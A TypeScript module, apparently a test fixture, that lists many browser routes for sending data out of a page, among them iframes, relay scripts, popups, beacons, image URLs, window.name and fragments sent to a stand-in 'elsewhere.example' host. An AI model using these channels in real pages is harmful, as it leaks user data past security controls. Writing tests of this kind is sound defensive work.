import { NotSent } from '../network-failure.ts';
import type { Channel, Outgoing } from '../outgoing.ts';

export type FrameWindow = Window & typeof globalThis;

export const post = ({ body, type }: Outgoing): RequestInit => ({
  method: 'POST',
  headers: { 'content-type': type },
  body,
});
export const absolute = (path: string): string => new URL(path, location.href).href;

export function frame(attributes: Readonly<Record<string, string>> = {}): HTMLIFrameElement {
  const made = document.createElement('iframe');
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  made.style.cssText = 'width:20px;height:20px;border:0';
  document.body.append(made);
  return made;
}

export function windowOf(made: HTMLIFrameElement): FrameWindow {
  if (made.contentWindow === null) throw new Error('no window');
  return made.contentWindow as FrameWindow;
}

async function loaded(made: HTMLIFrameElement): Promise<HTMLIFrameElement> {
  await new Promise((resolve) => made.addEventListener('load', resolve, { once: true }));
  return made;
}

/** A script that posts whatever is said to its window; for frames that are no part of the page's own origin. */
const RELAY = `<script>
  const expectLost = (error) => { if (error.name !== 'TypeError') throw error; };
  addEventListener('message', ({ data }) => fetch(data.path, { method: 'POST', mode: 'no-cors', body: data.body }).catch(expectLost));
</script>`;
const note = ({ body, path }: Outgoing) => ({ body, path: absolute(path) });
const far = (key: string): string => `https://${key}.elsewhere.example/far`;

/** Waits for a window of another origin to say that it listens. */
function said(): Promise<unknown> {
  return new Promise((resolve) => window.addEventListener('message', resolve, { once: true }));
}

export const FRAME = {
  'blank-frame-fetch': () => (out) => windowOf(frame()).fetch(absolute(out.path), post(out)),
  'first-window-fetch': () => (out) => windowOf(frame({ src: '/empty' })).fetch(absolute(out.path), post(out)),
  'removed-frame-beacon': () => (out) => {
    const made = frame();
    const beacon = windowOf(made).navigator.sendBeacon.bind(windowOf(made).navigator);
    const isTaken = beacon(absolute(out.path), new Blob([out.body], { type: out.type }));
    made.remove();
    if (!isTaken) throw new NotSent('not taken');
  },
  'frame-xhr': () => (out) => {
    const request = new (windowOf(frame()).XMLHttpRequest)();
    request.open('POST', absolute(out.path));
    request.send(out.body);
  },
  'frame-socket': async () => {
    const socket = new (windowOf(frame()).WebSocket)(`wss://${location.host}/live`);
    await new Promise((resolve) => socket.addEventListener('open', resolve));
    return (out) => socket.send(out.body);
  },
  'frame-image': () => (out) => {
    const image = new (windowOf(frame()).Image)();
    image.src = absolute(`${out.path}?q=${out.inUrl}`);
  },
  'srcdoc-frame': async () => {
    const made = await loaded(frame({ srcdoc: RELAY }));
    return (out) => windowOf(made).postMessage(note(out), '*');
  },
  'sandbox-frame': async () => {
    const made = await loaded(frame({ sandbox: 'allow-scripts', srcdoc: RELAY }));
    return (out) => windowOf(made).postMessage(note(out), '*');
  },
  'blob-frame': async () => {
    const made = await loaded(frame({ src: URL.createObjectURL(new Blob([RELAY], { type: 'text/html' })) }));
    return (out) => windowOf(made).postMessage(note(out), '*');
  },
  'data-frame': () => (out) => {
    const source = `<script>fetch(${JSON.stringify(absolute(out.path))}, { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(out.body)} })</script>`;
    frame({ src: `data:text/html,${encodeURIComponent(source)}` });
  },
  'reopened-frame': () => {
    const made = frame();
    made.contentDocument?.open();
    made.contentDocument?.write('<p>again</p>');
    made.contentDocument?.close();
    return (out) => windowOf(made).fetch(absolute(out.path), post(out));
  },
  'same-origin-frame': async () => {
    const made = await loaded(frame({ src: '/empty' }));
    return (out) => windowOf(made).fetch(absolute(out.path), post(out));
  },
  'popup-fetch': () => (out) => (open('about:blank', '_blank') as FrameWindow).fetch(absolute(out.path), post(out)),
  'frame-message': async (key) => {
    const heard = said();
    const made = frame({ src: far(key) });
    await heard;
    return (out) => windowOf(made).postMessage({ body: out.text }, '*');
  },
  'popup-message': async (key) => {
    const heard = said();
    const popup = open(far(key), '_blank');
    await heard;
    return (out) => popup?.postMessage({ body: out.text }, '*');
  },
  'frame-name': (key) => (out) => void frame({ name: out.text, src: far(key) }),
  'frame-fragment': (key) => (out) => void frame({ src: `${far(key)}#${out.inUrl}` }),
} satisfies Record<string, Channel>;
